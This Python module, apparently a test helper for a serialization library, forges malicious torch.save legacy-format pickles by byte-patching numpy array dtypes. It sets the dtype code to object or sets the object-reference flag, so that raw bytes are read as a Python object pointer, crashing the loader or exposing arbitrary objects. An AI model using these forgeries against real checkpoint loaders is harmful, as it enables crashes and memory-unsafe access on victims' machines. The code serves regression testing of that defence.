"""numpy pickles forged the way an attacker who can write a checkpoint file would forge them.

numpy's own `__setstate__` trusts a pickled dtype: a float64 array's pickle with its type code
changed to "O8" (object) carries raw bytes where numpy expects a list, and numpy (before smp
rebuilt numpy values itself) took those 8 bytes as a PyObject pointer. `object_array_from(a)`
writes that array with the address `a`: a garbage address crashes the process (at the first
print, in `np.random.set_state`, or when the array is freed), a live object's address hands
that object to whoever reads the element. `flagged_float_array()` keeps the float64 code but sets the dtype flags to
numpy's "holds object references" bit in the BUILD state.

The pickles are torch.save's legacy (non-zip) format, where the pickle's bytes are the file's.
"""

from __future__ import annotations

import io

import numpy as np
import torch

__all__ = ["object_array_from", "flagged_float_array", "dumps"]

_F8 = b"X\x02\x00\x00\x00f8"  # BINUNICODE 'f8': the dtype code in numpy's pickle
_ZERO_FLAGS = b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00"  # elsize -1, alignment -1, flags 0


def dumps(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def _float64_holding(address: int) -> np.ndarray:
    return np.frombuffer(address.to_bytes(8, "little"), np.float64).copy()


def object_array_from(address: int, wrap=lambda a: {"user": a}) -> bytes:
    """A file whose array (placed by `wrap`) is an object array built from raw bytes `address`."""
    data = dumps(wrap(_float64_holding(address)))
    assert data.count(_F8) == 1, "the value must hold exactly one float64 dtype"
    return data.replace(_F8, b"X\x02\x00\x00\x00O8")


def flagged_float_array(values: np.ndarray) -> bytes:
    """A file {"user": values (float64)} whose dtype state claims object references (flag 1)."""
    data = dumps({"user": np.asarray(values, np.float64)})
    assert data.count(_ZERO_FLAGS) == 1
    return data.replace(_ZERO_FLAGS, _ZERO_FLAGS[:-1] + b"\x01")
